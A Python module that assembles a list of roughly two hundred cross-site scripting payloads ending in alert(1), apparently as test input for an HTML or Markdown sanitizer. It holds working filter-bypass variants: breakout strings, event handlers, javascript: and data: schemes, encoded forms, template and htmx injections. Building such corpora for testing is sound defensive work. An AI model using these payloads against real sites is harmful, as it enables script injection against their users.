"""Two hundred texts that would run a script wherever they were trusted: each ends in alert(1)."""

from itertools import product

TAGS = ("img src=x", "svg", "body", "input autofocus", "video src=x", "details open", "a href=x")
HANDLERS = ("onerror", "onload", "onfocus", "onclick", "ontoggle", "onmouseover", "onpointerenter")
BREAKOUTS = (
    '"',
    "'",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</option></select>",
    "</noscript>",
    "</svg>",
    "</text></svg>",
    "`",
)
RUNNERS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "onfocus=alert(1) autofocus x=",
    "<iframe srcdoc='<script>alert(1)</script>'>",
)
SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)",
    "javascript://example.com/%0aalert(1)",
    "vbscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:alert(1)",
    "//evil.example/alert(1)",
)
LINKS = ("[x]({})", "![x]({})", "<{}>", "[x]: {}\n\n[x]", '[x](<{}> "t")')
OTHERS = (
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/src=data:,alert(1)>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src='1' onerror\n=\nalert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x",
    "<math><mi xlink:href='javascript:alert(1)'>x",
    "<form action=javascript:alert(1)><button>x",
    "<button formaction=javascript:alert(1)>x",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<div style=width:expression(alert(1))>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "{{ ''|safe }}<script>alert(1)</script>",
    "{% autoescape off %}<script>alert(1)</script>{% endautoescape %}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<div hx-get=/ hx-on:load=alert(1) hx-trigger=load>",
    "<div hx-on::load='alert(1)' data-hx-on:load=alert(1)>",
    "<div hx-vals='js:{x:alert(1)}' hx-trigger=load hx-get=/>",
    "red;background:url(javascript:alert(1))",
    "#000000}*{background:url(javascript:alert(1))",
    '=HYPERLINK("javascript:alert(1)")',
    "<details open ontoggle=alert(1)><summary>x",
    "```\n</code><script>alert(1)</script>\n```",
    "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
    "# <svg onload=alert(1)>",
    "> <img src=x onerror=alert(1)>",
)

PAYLOADS = tuple(
    dict.fromkeys(
        [
            *OTHERS,
            *(f"{out}{run}" for out, run in product(BREAKOUTS, RUNNERS)),
            *(f"<{tag} {handler}=alert(1)>" for tag, handler in product(TAGS, HANDLERS)),
            *(LINKS[place % len(LINKS)].format(one) for place, one in enumerate(SCHEMES)),
            *(f"[x]({one})" for one in SCHEMES),
            *SCHEMES,
        ]
    )
)
